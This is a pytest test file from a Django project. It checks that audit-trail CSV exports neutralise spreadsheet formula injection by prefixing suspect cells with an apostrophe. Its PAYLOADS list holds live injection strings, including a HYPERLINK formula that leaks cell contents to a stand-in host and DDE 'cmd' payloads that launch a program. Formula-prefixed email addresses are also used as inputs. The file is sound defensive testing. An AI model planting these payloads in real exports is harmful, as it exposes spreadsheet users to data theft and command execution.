"""Spreadsheet formula injection (issue 16): no exported cell starts a formula.

Every CSV/XLSX export goes through ``audit.exports``; one test per export below."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from audit.exports import FORMULA_STARTS, csv_lines, spreadsheet_safe
from audit.services import access_record, audit_record
from partnerships.roles import Role
from tests.factories import member

PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_safe_prefixes_formula_starts_with_an_apostrophe(payload):
    assert spreadsheet_safe(payload) == "'" + payload
    assert spreadsheet_safe("Plain text = fine") == "Plain text = fine"
    assert spreadsheet_safe(-3) == -3  # numbers stay numbers
    assert spreadsheet_safe("") == ""


def test_csv_lines_neutralises_header_and_every_cell():
    text = "".join(csv_lines(["=h"], [[p, "ok"] for p in PAYLOADS]))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=h"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def _export(client, slug: str, **params: str) -> list[list[str]]:
    r = client.get(reverse("audit_export", args=[slug]), params)
    assert r.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))


def _assert_no_formula_cells(rows: list[list[str]]) -> None:
    cells = [c for row in rows for c in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]


@pytest.mark.django_db
def test_audit_trail_export_of_changes_neutralises_typed_formulas(world, client):
    admin = world.user(Role.PARTNERSHIP_ADMIN)
    typist = member(Role.PRACTITIONER, world.provider, email="=1+2@example.invalid")
    for payload in PAYLOADS:
        audit_record(actor=typist, action="cases.referral.updated", obj=world.partnership, reason=payload)
    client.force_login(admin)
    rows = _export(client, world.partnership.slug)
    _assert_no_formula_cells(rows)
    assert sorted(r[6] for r in rows[1:]) == sorted("'" + p for p in PAYLOADS)
    assert {r[1] for r in rows[1:]} == {"'=1+2@example.invalid"}


@pytest.mark.django_db
def test_audit_trail_export_of_access_events_neutralises_typed_formulas(world, client):
    admin = world.user(Role.PARTNERSHIP_ADMIN)
    typist = member(Role.PRACTITIONER, world.provider, email="@evil@example.invalid")
    for payload in PAYLOADS:
        access_record(user=typist, obj=world.partnership, detail=payload)
    client.force_login(admin)
    rows = _export(client, world.partnership.slug, log="access")
    _assert_no_formula_cells(rows)
    assert sorted(r[5] for r in rows[1:] if r[1] != admin.email) == sorted("'" + p for p in PAYLOADS)
